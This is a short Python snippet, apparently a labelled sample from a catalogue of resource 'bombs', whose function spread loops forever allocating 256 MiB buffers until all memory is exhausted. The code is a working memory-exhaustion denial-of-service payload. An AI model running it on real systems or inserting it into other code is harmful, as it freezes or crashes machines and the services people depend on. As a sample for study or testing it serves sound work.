"""Family: bombs. Stock: 6 GiB taken. Takes all the memory that there is."""

def spread(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 28))
